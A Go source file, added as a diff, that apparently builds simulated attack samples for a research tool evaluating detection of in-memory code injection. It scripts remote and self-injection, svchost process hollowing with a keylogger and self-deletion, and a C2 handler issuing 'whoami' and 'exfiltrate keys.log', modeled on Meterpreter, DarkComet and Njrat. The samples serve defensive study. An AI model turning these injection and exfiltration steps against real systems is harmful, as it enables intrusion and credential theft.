@@ -1,0 +1,317 @@
+package samples
+
+import (
+	"faros/internal/guest"
+	"faros/internal/guest/gnet"
+	"faros/internal/isa"
+	"faros/internal/peimg"
+	"faros/internal/record"
+)
+
+// networkInjector builds inject_client.exe: it opens a session to the
+// attacker, receives a payload of exactly payloadLen bytes, and injects it
+// into victimName via the OpenProcess/VirtualAlloc/WriteProcessMemory/
+// CreateRemoteThread chain. This is the Meterpreter-style remote injection
+// client of the paper's reflective-DLL experiments.
+func networkInjector(name, victimName string, payloadLen uint32) Program {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("victim").DataString(victimName)
+	buf := b.BSS(4096)
+
+	emitConnect(b, AttackerAddr)
+	emitRecv(b, buf, payloadLen)
+	emitFindAndOpenProcess(b, "victim")
+	emitInjectAndRun(b, buf, payloadLen)
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// selfInjector builds the reverse_tcp_dns-style client: the shellcode and
+// the target process are the same (paper §VI, experiment 2). It receives
+// the payload, VirtualAllocs an RWX region in its own space, copies the
+// payload over with a guest-level byte loop, and jumps to it.
+func selfInjector(name string, payloadLen uint32) Program {
+	b := peimg.NewBuilder(name)
+	buf := b.BSS(4096)
+
+	emitConnect(b, AttackerAddr)
+	emitRecv(b, buf, payloadLen)
+
+	// VirtualAlloc(self, anywhere, payloadLen, rwx)
+	b.Text.Movi(isa.EBX, 0)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, payloadLen)
+	b.Text.Movi(isa.ESI, 7)
+	b.CallImport("VirtualAlloc")
+	b.Text.Mov(isa.EBP, isa.EAX)
+
+	// Byte-copy loop: taint flows with the data, and every store stamps the
+	// process tag.
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Label("cp")
+	b.Text.Cmpi(isa.ECX, payloadLen)
+	b.Text.Jge("go")
+	b.Text.Movi(isa.ESI, buf)
+	b.Text.LdbIdx(isa.EAX, isa.ESI, isa.ECX)
+	b.Text.StbIdx(isa.EBP, isa.ECX, isa.EAX)
+	b.Text.Addi(isa.ECX, 1)
+	b.Text.Jmp("cp")
+	b.Text.Label("go")
+	b.Text.CallReg(isa.EBP) // payload is resident; never returns
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// hollowingLoader builds process_hollowing.exe: it spawns svchost.exe
+// suspended, unmaps its image, writes an embedded keylogger payload into a
+// fresh RWX region, points the thread at it, resumes, deletes its own file
+// from disk (droppers clean up), and exits. The payload never touches the
+// network — Figure 10's provenance list has no netflow tag.
+func hollowingLoader(name, victimPath string, payload []byte) Program {
+	b := peimg.NewBuilder(name)
+	b.DataBlk.Label("victimpath").DataString(victimPath)
+	b.DataBlk.Label("selfpath").DataString(name)
+	b.DataBlk.Label("payload").Data(payload)
+	n := uint32(len(payload))
+
+	// CreateProcessA(victim, CREATE_SUSPENDED) → pid
+	b.Text.Movi(isa.EBX, b.MustDataVA("victimpath"))
+	b.Text.Movi(isa.ECX, guest.CreateSuspended)
+	b.CallImport("CreateProcessA")
+	b.Text.Mov(isa.EBX, isa.EAX)
+	b.CallImport("OpenProcess")
+	b.Text.Mov(isa.EBP, isa.EAX) // child handle
+
+	// NtUnmapViewOfSection(child, image text)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, guest.UserImageBase+peimg.TextOff)
+	b.CallImport("NtUnmapViewOfSection")
+
+	emitInjectHollow(b, n)
+
+	// Drop the dropper.
+	b.Text.Movi(isa.EBX, b.MustDataVA("selfpath"))
+	b.CallImport("DeleteFileA")
+	emitExit(b, 0)
+	return build(b, name)
+}
+
+// emitInjectHollow allocates in the suspended child (handle in EBP), writes
+// the payload, sets the thread context to its base, and resumes.
+func emitInjectHollow(b *peimg.Builder, n uint32) {
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.ECX, 0)
+	b.Text.Movi(isa.EDX, n)
+	b.Text.Movi(isa.ESI, 7)
+	b.CallImport("VirtualAlloc")
+	b.Text.Push(isa.EAX)
+
+	b.Text.Mov(isa.ECX, isa.EAX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.Text.Movi(isa.EDX, b.MustDataVA("payload"))
+	b.Text.Movi(isa.ESI, n)
+	b.CallImport("WriteProcessMemory")
+
+	// SetThreadContext(child, payload base)
+	b.Text.Pop(isa.ECX)
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.CallImport("SetThreadContext")
+
+	b.Text.Mov(isa.EBX, isa.EBP)
+	b.CallImport("ResumeProcess")
+}
+
+// shellC2 scripts the attacker's handler for connect-back shells: one
+// command on connect, a second command in response to the beacon, then it
+// closes the flow.
+type shellC2 struct{}
+
+func (shellC2) OnConnect(gnet.Flow) []gnet.Reply {
+	return []gnet.Reply{{DelayInstr: 400, Data: []byte("whoami\x00")}}
+}
+
+func (shellC2) OnData(gnet.Flow, []byte) []gnet.Reply {
+	return []gnet.Reply{
+		{DelayInstr: 400, Data: []byte("exfiltrate keys.log\x00")},
+		{DelayInstr: 900, Close: true},
+	}
+}
+
+// typedKeystrokes scripts the victim typing, so keyloggers capture data.
+func typedKeystrokes(startAt uint64) []record.Event {
+	return []record.Event{
+		{At: startAt, Kind: record.EvKeyboard, Data: []byte("hunter2\x00")},
+		{At: startAt + 400_000, Kind: record.EvKeyboard, Data: []byte("credit card 4111\x00")},
+	}
+}
+
+// ReflectiveDLLInject reproduces experiment 1 (§VI): the Meterpreter
+// reflective_dll_inject module. The attacker delivers a reflective loader
+// that walks the export table to resolve LoadLibraryA/GetProcAddress/
+// VirtualAlloc, allocates, copies its DLL stage into the allocation, and
+// runs it inside notepad.exe; the stage pops a message box.
+func ReflectiveDLLInject() Spec {
+	payload := BuildPayload(PayloadSpec{
+		Message:     "reflective dll loaded",
+		SecondStage: true,
+	})
+	return Spec{
+		Name: "reflective_dll_inject",
+		Programs: []Program{
+			victimProgram("notepad.exe"),
+			networkInjector("inject_client.exe", "notepad.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"notepad.exe", "inject_client.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
+		MaxInstr:   4_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+}
+
+// ReverseTCPDNS reproduces experiment 2: the reverse_tcp_dns module, where
+// the shellcode and the target process are the same (self-injection, Fig 8).
+func ReverseTCPDNS() Spec {
+	payload := BuildPayload(PayloadSpec{Message: "reverse tcp dns stage"})
+	return Spec{
+		Name: "reverse_tcp_dns",
+		Programs: []Program{
+			selfInjector("inject_client.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"inject_client.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
+		MaxInstr:   4_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+}
+
+// BypassUAC reproduces experiment 3: the bypassuac_injection module with
+// firefox.exe as the target. The payload self-erases its prologue after
+// running (transient in-memory attack).
+func BypassUAC() Spec {
+	payload := BuildPayload(PayloadSpec{
+		Message:   "uac bypassed",
+		SelfErase: true,
+	})
+	return Spec{
+		Name: "bypassuac_injection",
+		Programs: []Program{
+			victimProgram("firefox.exe"),
+			networkInjector("inject_client.exe", "firefox.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"firefox.exe", "inject_client.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
+		MaxInstr:   4_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+}
+
+// ProcessHollowing reproduces the Lab 3-3 experiment: process replacement
+// of svchost.exe launching a keylogger. The payload is embedded in the
+// loader's image (no network), so only the foreign-code confluence fires —
+// Figure 10's provenance has no netflow tag.
+func ProcessHollowing() Spec {
+	payload := BuildPayload(PayloadSpec{Keylog: "keystrokes.log"})
+	return Spec{
+		Name: "process_hollowing",
+		Programs: []Program{
+			victimProgram("svchost.exe"),
+			hollowingLoader("process_hollowing.exe", "svchost.exe", payload),
+		},
+		// svchost.exe is only installed, not auto-started: the loader
+		// spawns it suspended itself.
+		AutoStart:  []string{"process_hollowing.exe"},
+		Events:     typedKeystrokes(600_000),
+		MaxInstr:   4_000_000,
+		ExpectFlag: true,
+		ExpectRule: "foreign-code-export",
+	}
+}
+
+// DarkComet reproduces the DarkComet RAT code-injection experiment: the
+// RAT client fetches shellcode from its C2 and injects it into
+// explorer.exe; the shellcode opens a reverse shell to the attacker.
+func DarkComet() Spec {
+	payload := BuildPayload(PayloadSpec{
+		ConnectBack: &AttackerShellAddr,
+		Beacon:      "darkcomet ready",
+	})
+	return Spec{
+		Name: "darkcomet",
+		Programs: []Program{
+			victimProgram("explorer.exe"),
+			networkInjector("darkcomet.exe", "explorer.exe", uint32(len(payload))),
+		},
+		AutoStart: []string{"explorer.exe", "darkcomet.exe"},
+		Endpoints: []EndpointSpec{
+			{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}},
+			{Addr: AttackerShellAddr, Endpoint: shellC2{}},
+		},
+		MaxInstr:   6_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+}
+
+// Njrat reproduces the Njrat remote-shell code-injection experiment,
+// targeting notepad.exe.
+func Njrat() Spec {
+	payload := BuildPayload(PayloadSpec{
+		ConnectBack: &AttackerShellAddr,
+		Beacon:      "njrat shell up",
+	})
+	return Spec{
+		Name: "njrat",
+		Programs: []Program{
+			victimProgram("notepad.exe"),
+			networkInjector("njrat.exe", "notepad.exe", uint32(len(payload))),
+		},
+		AutoStart: []string{"notepad.exe", "njrat.exe"},
+		Endpoints: []EndpointSpec{
+			{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}},
+			{Addr: AttackerShellAddr, Endpoint: shellC2{}},
+		},
+		MaxInstr:   6_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+}
+
+// TransientReflective is the malfind-evasion variant used in the §VI.B
+// comparison: identical to ReflectiveDLLInject but the payload erases its
+// executed prologue before going resident, so the end-of-run snapshot
+// shows only zeroes at the allocation head.
+func TransientReflective() Spec {
+	payload := BuildPayload(PayloadSpec{
+		Message:   "transient stage",
+		SelfErase: true,
+	})
+	s := Spec{
+		Name: "transient_reflective",
+		Programs: []Program{
+			victimProgram("notepad.exe"),
+			networkInjector("inject_client.exe", "notepad.exe", uint32(len(payload))),
+		},
+		AutoStart:  []string{"notepad.exe", "inject_client.exe"},
+		Endpoints:  []EndpointSpec{{Addr: AttackerAddr, Endpoint: oneShot{delay: 500, payload: payload}}},
+		MaxInstr:   4_000_000,
+		ExpectFlag: true,
+		ExpectRule: "netflow-export",
+	}
+	return s
+}
+
+// Attacks returns the six in-memory-injection scenarios of the paper's
+// evaluation, in the order §VI presents them.
+func Attacks() []Spec {
+	return []Spec{
+		ReflectiveDLLInject(),
+		ReverseTCPDNS(),
+		BypassUAC(),
+		ProcessHollowing(),
+		DarkComet(),
+		Njrat(),
+	}
+}
